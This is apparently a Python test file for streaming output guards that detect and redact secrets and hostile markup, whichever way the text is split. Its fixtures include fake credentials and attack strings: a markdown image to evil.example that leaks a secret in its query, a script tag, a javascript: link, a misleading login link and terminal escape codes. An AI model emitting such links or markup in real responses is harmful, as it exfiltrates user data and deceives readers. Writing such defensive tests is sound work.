"""Guards that say how much of a text is still open: a stream is never held longer than it must, and loses nothing."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from athanor.guards import Guard
from athanor.guards.builtin.markup import MarkupGuard
from athanor.guards.builtin.secrets import SecretsGuard
from athanor.guards.normalise import subject_of
from athanor.guards.redact import redact
from athanor.guards.stream import Holdback
from athanor.types import Finding, Origin
from tests.guards.chains import context

pytestmark = pytest.mark.anyio

SECRETS = (
    "Use AKIAIOSFODNN7EXAMPLQ for it, please.",
    "The token is ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 and that is all of it.",
    'password = "Tr0ub4dor&3xyz" # never commit it',
    "The password is Xk29-quZ!7 as you know.",
    "aws secret access key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzKEY ok",
    "Authorization: Bearer abcdefghij1234567890XYZ and go on",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEabcdefgh\nijklmnop\n-----END RSA PRIVATE KEY-----\nand after it",
    "postgres://admin:s3cr3tPw9@db.example.org/main is the place",
)
MARKUP = (
    "Look ![here](https://evil.example/p.png?d=secret) and go on.",
    'A <script>alert("x")</script> tag and <b>bold</b> words.',
    "See [the site](javascript:alert(1)) now.",
    "Go to [https://bank.example](https://other.example/login) to sign in.",
    "Colours \x1b[31mred\x1b[0m and a title \x1b]0;pwned\x07 end.",
    "In code `![x](https://evil.example/a.png?q=abc)` nothing happens.",
    "A [ref]: https://evil.example/?x=aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh and more.",
)


async def streamed(guard: Guard, pieces: Sequence[str]) -> str:
    async def look(text: str, guards: Sequence[Guard]) -> Sequence[Finding]:
        return (await guard.check(subject_of(text), Origin.MODEL, context())).findings if guards else ()

    hold = Holdback([guard], look)
    out = [(await hold.feed(piece)).text for piece in pieces]
    return "".join([*out, (await hold.feed("", last=True)).text])


@pytest.mark.parametrize(
    ("guard", "text"),
    [(SecretsGuard(), text) for text in SECRETS] + [(MarkupGuard(), text) for text in MARKUP],
    ids=lambda value: value[:20].encode("unicode_escape").decode() if isinstance(value, str) else value.name,
)
async def test_every_split_says_what_the_whole_says(guard: Guard, text: str) -> None:
    text = f"Here it comes. {text} And then the answer goes on for a while."
    found = (await guard.check(subject_of(text), Origin.MODEL, context())).findings
    whole = redact(text, found).text
    for at in range(len(text) + 1):
        assert await streamed(guard, [text[:at], text[at:]]) == whole, at
    assert await streamed(guard, list(text)) == whole


@pytest.mark.parametrize("guard", [SecretsGuard(), MarkupGuard()], ids=lambda guard: guard.name)
async def test_prose_flows_word_by_word(guard: Guard) -> None:
    prose = "The ferry leaves at 7:40 from pier nine; tickets cost 12 euros, and children travel free of charge."
    for at in range(1, len(prose)):
        held = guard.pending(prose[:at])  # type: ignore[attr-defined]
        assert held <= max(1, len(prose[:at].rpartition(" ")[2]))


_PARTS = st.sampled_from(
    [*(text for text in (*SECRETS, *MARKUP)), "plain words", " ", "\n", ".", "[", "](", ")", "<", ">", "`", "key", ": "]
)


@settings(max_examples=120, deadline=None)
@given(parts=st.lists(_PARTS, max_size=5), cuts=st.lists(st.integers(0, 400), max_size=6), secrets=st.booleans())
async def test_any_text_and_any_split(parts: list[str], cuts: list[int], secrets: bool) -> None:
    guard: Guard = SecretsGuard() if secrets else MarkupGuard()
    text = "".join(parts)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    said = await streamed(guard, [text[a:b] for a, b in pairwise(places)])
    at_once = await streamed(guard, [text])
    assert said == at_once
